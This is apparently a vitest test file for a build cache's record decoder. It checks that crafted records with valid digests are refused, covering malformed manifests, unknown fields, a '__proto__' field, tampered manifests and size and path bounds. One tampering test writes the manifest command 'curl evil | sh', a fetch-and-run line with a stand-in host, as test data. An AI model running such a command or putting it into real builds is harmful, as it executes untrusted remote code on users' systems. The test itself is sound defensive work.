// A record is untrusted input even with a valid digest: whoever writes to a store can digest
// anything. Every field is checked where the record is decoded, the manifest included, sizes
// and counts are bounded, and the manifest must give the record's key — on a restore too,
// where the manifest's text is hashed as it stands rather than parsed.

import { beforeAll, describe, expect, it } from 'vitest';
import { blake3, initBlake3 } from '../../src/adapters/blake3.js';
import { describeChanges, diffManifests } from '../../src/core/diff.js';
import type { Digest, Key } from '../../src/core/digest.js';
import {
  decodeRecord,
  decodeRecordToRestore,
  ENTRY_FORMAT,
  type EntryRecord,
  encodeRecord,
  MAX_PATH_LENGTH,
  MAX_RECORD_CHARS,
  MAX_SIZE,
} from '../../src/core/entry.js';
import {
  computeKey,
  createManifest,
  KEY_SCHEMA_VERSION,
  type Manifest,
  serializeManifest,
} from '../../src/core/manifest.js';

const digest = (text: string) => blake3(text) as Digest;

function manifest(salt = ''): Manifest {
  return createManifest({
    task: 'build',
    command: 'make',
    shell: 'bash',
    cwd: '.',
    platform: { os: 'linux', arch: 'x64' },
    env: [{ name: 'NODE_ENV', digest: 'e'.repeat(64) as Digest }],
    inputs: [
      { path: 'src/a.ts', executable: false, digest: 'a'.repeat(64) as Digest },
      { path: 'src/tool', executable: true, digest: 'b'.repeat(64) as Digest },
      { path: 'src/link', link: 'a.ts' },
    ],
    keyCommands: [{ command: 'node --version', digest: 'c'.repeat(64) as Digest }],
    outputs: ['dist/**'],
    salt,
  });
}

function record(m: Manifest = manifest()): EntryRecord {
  return {
    format: ENTRY_FORMAT,
    key: computeKey(m, blake3),
    task: 'build',
    manifest: m,
    createdAt: '2026-11-21T10:00:00.000Z',
    durationMs: 1234,
    exitCode: 0,
    outputs: [
      { kind: 'file', path: 'dist/a.js', executable: false, size: 3, digest: digest('abc') },
      { kind: 'link', path: 'dist/b.js', target: 'a.js' },
    ],
    log: { size: 0, digest: digest('') },
    archive: { codec: 'gzip' },
    producer: { host: 'ci' },
  };
}

/** Any JSON as a record, with a digest that matches it: what a store writer can make. */
function crafted(value: unknown): string {
  return encodeRecord(value as EntryRecord, blake3);
}

/** A record as parsed JSON, any field of which a patch may set to anything. */
// biome-ignore lint/suspicious/noExplicitAny: patches reach into untyped JSON on purpose
type Loose = any;

/** The record with `patch` applied, digested again. */
function patched(patch: (r: Loose) => unknown, base: EntryRecord = record()) {
  const r: Loose = JSON.parse(JSON.stringify(base));
  patch(r);
  return crafted(r);
}

/** Decoded every way a caller can: the reason of each, which must all be refusals. */
function reasons(text: string, key: Key = record().key): string[] {
  const results = [
    decodeRecord(text, undefined, blake3),
    decodeRecord(text, key, blake3),
    decodeRecordToRestore(text, key, blake3),
    // Reformatted: the general path, which parses the manifest on a restore too.
    ...(isJson(text)
      ? [
          decodeRecord(JSON.stringify(JSON.parse(text), null, 1), key, blake3),
          decodeRecordToRestore(JSON.stringify(JSON.parse(text), null, 1), key, blake3),
        ]
      : []),
  ];
  return results.map((result) => (result.ok ? 'ok' : result.reason));
}

function isJson(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

beforeAll(async () => {
  await initBlake3();
});

describe('a record as written', () => {
  it('decodes every way, with the manifest the key was computed from', () => {
    const text = encodeRecord(record(), blake3);
    expect(reasons(text)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
    expect(decodeRecord(text, undefined, blake3)).toEqual({ ok: true, record: record() });
    // The manifest's text in the record is the key's text byte for byte.
    expect(text).toContain(`"manifest":${serializeManifest(manifest())},"outputs":[`);
  });
});

describe('a malformed manifest with a valid digest (#19.6)', () => {
  it('is a reason, never a record that throws later in the diff', () => {
    const text = patched((r) => {
      r.manifest = { schema: 1 };
    });
    const decoded = decodeRecord(text, undefined, blake3);
    expect(decoded).toEqual({ ok: false, reason: 'record manifest.task is not a string' });
    // What crashed `run`: the miss explanation diffed the decoded manifest.
    expect(() => describeChanges(diffManifests({ schema: 1 } as never, manifest()))).toThrow();
    for (const reason of reasons(text)) expect(reason).not.toBe('ok');
  });

  it.each([
    ['no manifest', (r: Loose) => delete r.manifest],
    ['manifest null', (r: Loose) => (r.manifest = null)],
    ['manifest a list', (r: Loose) => (r.manifest = [])],
    ['platform missing', (r: Loose) => delete r.manifest.platform],
    ['platform a string', (r: Loose) => (r.manifest.platform = 'linux-x64')],
    ['env not a list', (r: Loose) => (r.manifest.env = {})],
    ['env item without digest', (r: Loose) => (r.manifest.env = [{ name: 'X' }])],
    ['input without path', (r: Loose) => delete r.manifest.inputs[0].path],
    ['input with a bad digest', (r: Loose) => (r.manifest.inputs[0].digest = 'zz')],
    ['input with extra field', (r: Loose) => (r.manifest.inputs[0].size = 1)],
    ['input link not a string', (r: Loose) => (r.manifest.inputs[2].link = 1)],
    ['keyCommands null', (r: Loose) => (r.manifest.keyCommands = null)],
    ['outputs missing', (r: Loose) => delete r.manifest.outputs],
    ['outputs of numbers', (r: Loose) => (r.manifest.outputs = [1])],
    ['unknown schema', (r: Loose) => (r.manifest.schema = 99)],
    ['unknown field', (r: Loose) => (r.manifest.extra = 1)],
    [
      '__proto__ field',
      (r: Loose) => Object.defineProperty(r.manifest, '__proto__', { value: {}, enumerable: true }),
    ],
  ])('%s: refused every way, the key recomputed or not', (_, patch) => {
    const text = patched(patch);
    for (const reason of reasons(text)) expect(reason).not.toBe('ok');
  });
});

describe("the manifest must give the record's key (#14.14)", () => {
  it('refuses a valid manifest of another key, in full and on a restore', () => {
    // The record says key K, digests correctly, but holds the manifest of another task.
    const other = manifest('another salt');
    const text = crafted({ ...record(), manifest: other });
    expect(reasons(text)).toEqual(Array(5).fill("record's manifest does not give its key"));
  });

  it('refuses a manifest changed after the key was computed, laid out as written', () => {
    const text = encodeRecord(record(), blake3);
    const body = JSON.parse(text).record;
    body.manifest.command = 'curl evil | sh';
    const evil = crafted(body);
    // Laid out as encodeRecord writes it: the fast restore path, which hashes the text.
    expect(evil.indexOf('"manifest":{')).toBeGreaterThan(0);
    expect(decodeRecordToRestore(evil, record().key, blake3)).toEqual({
      ok: false,
      reason: "record's manifest does not give its key",
    });
    expect(decodeRecord(evil, record().key, blake3)).toMatchObject({ ok: false });
  });

  it('reads a record of key schema 1 as an earlier version wrote it, to explain a miss', () => {
    const v1: Manifest = { ...manifest(), schema: 1 };
    const { outputs: _, ...stored } = v1;
    // Its key: the manifest's text with the executable bit as "x" and no outputs.
    const v1Text = serializeManifest(v1);
    expect(v1Text).toContain('"x":true');
    expect(v1Text).not.toContain('"outputs"');
    const key = blake3(v1Text) as string as Key;
    const text = crafted({ ...record(), key, manifest: stored });
    const decoded = decodeRecord(text, undefined, blake3);
    expect(decoded).toMatchObject({ ok: true });
    if (!decoded.ok) return;
    expect(decoded.record.manifest.outputs).toEqual([]);
    expect(describeChanges(diffManifests(decoded.record.manifest, manifest()))).toEqual([
      `key schema changed (1 → ${KEY_SCHEMA_VERSION})`,
    ]);
    // Never a hit: the current key of the same task is another one.
    expect(decodeRecordToRestore(text, computeKey(manifest(), blake3), blake3)).toMatchObject({
      ok: false,
    });
  });
});

describe('the rest of the record (#19.6)', () => {
  it.each([
    ['an unknown field', (r: Loose) => (r.extra = 1), 'record has an unknown field "extra"'],
    ['task a number', (r: Loose) => (r.task = 1), 'record field task is not a string'],
    [
      'createdAt missing',
      (r: Loose) => delete r.createdAt,
      'record field createdAt is not a string',
    ],
    [
      'durationMs negative',
      (r: Loose) => (r.durationMs = -1),
      'record field durationMs is not a duration',
    ],
    [
      'exitCode a string',
      (r: Loose) => (r.exitCode = '0'),
      'record field exitCode is not an integer',
    ],
    ['outputs an object', (r: Loose) => (r.outputs = {}), 'record field outputs is not a list'],
    ['an output null', (r: Loose) => (r.outputs[0] = null), 'record field outputs[0] has no path'],
    [
      'an output of another kind',
      (r: Loose) => (r.outputs[0].kind = 'dir'),
      'record field outputs[0] is not {kind, path, executable, size, digest}',
    ],
    [
      'a file without executable bit',
      (r: Loose) => delete r.outputs[0].executable,
      'record field outputs[0] is not {kind, path, executable, size, digest}',
    ],
    [
      'a file with extra field',
      (r: Loose) => (r.outputs[0].mode = 511),
      'record field outputs[0] is not {kind, path, executable, size, digest}',
    ],
    [
      'a fractional size',
      (r: Loose) => (r.outputs[0].size = 1.5),
      'record field outputs[0].size is not a size up to 1099511627776 bytes',
    ],
    [
      'a link without target',
      (r: Loose) => delete r.outputs[1].target,
      'record field outputs[1] is not {kind, path, target}',
    ],
    ['log missing', (r: Loose) => delete r.log, 'record field log is not {size, digest}'],
    [
      'log size a string',
      (r: Loose) => (r.log.size = '0'),
      'record field log.size is not a size up to 1099511627776 bytes',
    ],
    [
      'an unknown codec',
      (r: Loose) => (r.archive.codec = 'lz4'),
      'record field archive is not {codec} with a codec of zstd, gzip, none',
    ],
    [
      'producer with a number',
      (r: Loose) => (r.producer.job = 1),
      'record field producer is not an object of strings',
    ],
    [
      'runnerFiles a string',
      (r: Loose) => (r.runnerFiles = 'x'),
      'record field runnerFiles is not {output, env, path, summary}',
    ],
    [
      'runnerFiles without env',
      (r: Loose) => (r.runnerFiles = { output: '', path: '', summary: '' }),
      'record field runnerFiles is not {output, env, path, summary}',
    ],
    [
      'blobs a list',
      (r: Loose) => (r.blobs = ['a']),
      'record field blobs is not an object of path: blob id',
    ],
    [
      'blobs with an id that is not hex',
      (r: Loose) => (r.blobs = { 'src/a.ts': 'z'.repeat(40) }),
      'record field blobs["src/a.ts"] is not a git blob id (40 or 64 lowercase hex digits)',
    ],
    [
      'blobs with a short id',
      (r: Loose) => (r.blobs = { 'src/a.ts': 'ab' }),
      'record field blobs["src/a.ts"] is not a git blob id (40 or 64 lowercase hex digits)',
    ],
    [
      'blobs with a path over 4096 characters',
      (r: Loose) => (r.blobs = { ['a'.repeat(4097)]: 'a'.repeat(40) }),
      'record field blobs has a path longer than 4096 characters',
    ],
  ])('%s: a reason naming the field', (_, patch, reason) => {
    const text = patched(patch);
    expect(decodeRecord(text, undefined, blake3)).toEqual({ ok: false, reason });
    for (const each of reasons(text)) expect(each).toBe(reason);
  });

  it('takes a blobs field of path: git blob id (SHA-1 or SHA-256)', () => {
    const text = patched(
      (r: Loose) => (r.blobs = { 'src/a.ts': 'a'.repeat(40), 'src/b.ts': 'b'.repeat(64) }),
    );
    expect(reasons(text)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
  });

  it('takes producer fields it does not know, as strings', () => {
    const text = patched((r: Loose) => (r.producer = { host: 'h', future: 'x' }));
    expect(reasons(text)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
  });
});

describe('bounds (#14.13)', () => {
  it('refuses a record text over 64 MiB before reading it', () => {
    const huge = `${encodeRecord(record(), blake3)}${' '.repeat(MAX_RECORD_CHARS)}`;
    expect(decodeRecord(huge, undefined, blake3)).toEqual({
      ok: false,
      reason: 'record is larger than 64 MiB',
    });
    expect(decodeRecordToRestore(huge, record().key, blake3)).toMatchObject({ ok: false });
  });

  it('refuses a path or a link target longer than 4096 characters', () => {
    const long = `dist/${'a'.repeat(MAX_PATH_LENGTH)}`;
    expect(reasons(patched((r: Loose) => (r.outputs[0].path = long)))).toEqual(
      Array(5).fill('record field outputs[0] has a path longer than 4096 characters'),
    );
    const target = `${'a/'.repeat(MAX_PATH_LENGTH / 2)}x`;
    expect(reasons(patched((r: Loose) => (r.outputs[1].target = target)))).toEqual(
      Array(5).fill('record field outputs[1] has a target longer than 4096 characters'),
    );
    // 4096 itself is fine.
    const fits = `dist/${'a'.repeat(MAX_PATH_LENGTH - 5)}`;
    expect(
      decodeRecord(
        patched((r: Loose) => (r.outputs[0].path = fits)),
        undefined,
        blake3,
      ),
    ).toMatchObject({ ok: true });
  });

  it('refuses a size past 1 TiB, for one file, the log, or all files together', () => {
    expect(reasons(patched((r: Loose) => (r.outputs[0].size = MAX_SIZE + 1)))[0]).toBe(
      'record field outputs[0].size is not a size up to 1099511627776 bytes',
    );
    expect(reasons(patched((r: Loose) => (r.log.size = MAX_SIZE + 1)))[0]).toBe(
      'record field log.size is not a size up to 1099511627776 bytes',
    );
    const two = patched((r: Loose) => {
      r.outputs[0].size = MAX_SIZE;
      r.outputs[1] = { ...r.outputs[0], path: 'dist/c.js' };
    });
    expect(reasons(two)[0]).toBe("record's outputs add up to more than 1099511627776 bytes");
    expect(
      decodeRecord(
        patched((r: Loose) => (r.outputs[0].size = MAX_SIZE)),
        undefined,
        blake3,
      ),
    ).toMatchObject({ ok: true });
  });
});
